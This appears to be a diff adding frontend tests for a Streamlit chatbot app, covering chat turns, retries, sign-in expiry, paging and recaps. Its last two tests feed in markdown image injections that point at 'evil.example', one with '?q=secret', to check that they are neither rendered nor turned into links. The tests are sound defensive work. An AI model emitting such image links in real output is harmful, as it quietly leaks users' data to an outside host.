@@ -1,0 +1,151 @@
+"""A talk from its start to its recap, with what can go wrong on the way."""
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from gptlab import api
+from gptlab.client import errors
+from tests.frontend.conftest import Opened, has, texts
+from tests.frontend.fake_client import FakeClient, a_bot, code
+
+
+@pytest.fixture
+def chat(opened: Opened) -> AppTest:
+    """A session that has just begun."""
+    app = opened("assistant", bot_info=a_bot(1))
+    return app.button(key="start").click().run()
+
+
+def say(app: AppTest, text: str) -> AppTest:
+    return app.chat_input(key="composer").set_value(text).run()
+
+
+def test_the_assistant_speaks_first_and_then_answers(chat: AppTest) -> None:
+    assert "Reply 1" in texts(chat)
+    say(chat, "Hello *there*")
+    assert "Hello *there*" in texts(chat)
+    assert "Reply 2" in texts(chat)
+    assert "321 tokens in, 45 out" in texts(chat)
+
+
+def test_the_chosen_model_is_the_one_used(opened: Opened, fake: FakeClient) -> None:
+    app = opened("assistant", bot_info=a_bot(1))
+    app.selectbox(key=f"model_{code(1)}").select("demo-large")
+    app.button(key="start").click().run()
+    assert ("start_session", (code(1), "demo-large")) in [asked[:2] for asked in fake.asked]
+
+
+def test_a_key_without_the_bots_model_gets_the_first_it_has(
+    opened: Opened, fake: FakeClient
+) -> None:
+    fake.models = ["other-1", "other-2"]
+    app = opened("assistant", bot_info=a_bot(1))
+    assert app.selectbox(key=f"model_{code(1)}").value == "other-1"
+    assert "no access to demo" in texts(app)
+
+
+def test_a_failed_turn_keeps_the_text_and_retries_with_the_same_key(
+    chat: AppTest, fake: FakeClient
+) -> None:
+    fake.failures["send_message"] = [errors.ProviderTimeout(request_id="req-1")]
+    say(chat, "Still here?")
+    assert "Still here?" in texts(chat)
+    assert "req\\-1" in texts(chat)
+    assert chat.chat_input(key="composer").disabled
+    chat.button(key="retry").click().run()
+    assert "Reply 2" in texts(chat)
+    first, second = fake.keys("send_message")
+    assert first == second
+
+
+def test_an_edited_message_is_another_message(chat: AppTest, fake: FakeClient) -> None:
+    fake.failures["send_message"] = [errors.Blocked()]
+    say(chat, "First wording")
+    chat.button(key="edit").click().run()
+    assert "First wording" not in texts(chat)
+    say(chat, "Second wording")
+    first, second = fake.keys("send_message")
+    assert first != second
+
+
+def test_a_discarded_message_is_gone(chat: AppTest, fake: FakeClient) -> None:
+    fake.failures["send_message"] = [errors.Blocked()]
+    say(chat, "Never mind")
+    chat.button(key="discard").click().run()
+    assert "Never mind" not in texts(chat)
+    assert not chat.chat_input(key="composer").disabled
+
+
+def test_an_expired_sign_in_keeps_the_chat_and_the_text(chat: AppTest, fake: FakeClient) -> None:
+    fake.failures["send_message"] = [errors.TokenExpired()]
+    say(chat, "Do not lose this")
+    assert chat.text_input(key="key_field")
+    assert "Reply 1" in texts(chat)
+    assert "Do not lose this" in texts(chat)
+    assert "The sign\\-in has expired" in texts(chat)
+    assert not has(chat, "retry")
+
+
+def test_a_message_answered_elsewhere_is_not_sent_again(opened: Opened, fake: FakeClient) -> None:
+    session = fake.start_session(code(1)).session
+    fake.send_message(session.session_id, "One")
+    pending = api.FailedTurn(message="Two", code=None, retryable=True)
+    talk = fake.talks[session.session_id]
+    fake.talks[session.session_id] = talk.model_copy(update={"pending": pending})
+    app = opened("assistant", bot_info=a_bot(1))
+    app.button(key=f"resume_{session.session_id}").click().run()
+    assert "Two" in texts(app)
+    assert has(app, "look_again")
+    assert not has(app, "retry")
+
+
+def test_a_start_that_failed_is_repeated_with_its_key(opened: Opened, fake: FakeClient) -> None:
+    fake.failures["start_session"] = [errors.ProviderError()]
+    app = opened("assistant", bot_info=a_bot(1))
+    app.button(key="start").click().run()
+    app.button(key="start").click().run()
+    first, second = fake.keys("start_session")
+    assert first == second
+    assert "Reply 1" in texts(app)
+
+
+def test_fifty_messages_are_drawn_and_earlier_ones_offered(
+    opened: Opened, fake: FakeClient
+) -> None:
+    session = fake.start_session(code(1)).session
+    for number in range(60):
+        fake.send_message(session.session_id, f"Word {number}.")
+    app = opened("assistant", bot_info=a_bot(1))
+    app.button(key=f"resume_{session.session_id}").click().run()
+    assert len(app.chat_message) == 50
+    app.button(key="earlier").click().run()
+    assert len(app.chat_message) == 100
+    app.button(key="earlier").click().run()
+    assert len(app.chat_message) == 121
+    assert not has(app, "earlier")
+    said = texts(app)
+    assert said.index("Word 0.") < said.index("Word 59.")
+
+
+def test_concluding_shows_the_recap_and_rates_it(chat: AppTest, fake: FakeClient) -> None:
+    assert not has(chat, "conclude")
+    say(chat, "Hello")
+    chat.button(key="conclude").click().run()
+    assert "We talked about **reasons**." in texts(chat)
+    session_id = chat.session_state["session_id"]
+    chat.feedback(key=f"thumbs_{session_id}").set_value(1).run()
+    assert fake.talks[session_id].session.user_liked == 1
+    chat.button(key="resume").click().run()
+    assert chat.chat_input(key="composer")
+
+
+def test_a_strangers_reply_brings_no_picture(opened: Opened, fake: FakeClient) -> None:
+    fake.replies = iter(["See ![you](https://evil.example/?q=secret)\n```md\n![x](y)\n```"])
+    app = opened("assistant", bot_info=a_bot(1)).button(key="start").click().run()
+    assert not [text for text in app.markdown if "evil.example" in str(text.value)]
+    assert "![x](y)" in [block.value for block in app.code]
+
+
+def test_a_strangers_name_is_only_text(opened: Opened) -> None:
+    app = opened("assistant", bot_info=a_bot(1, name="![](//evil.example/x)"))
+    assert app.title[0].value == r"\!\[\]\(\/\/evil\.example\/x\)"
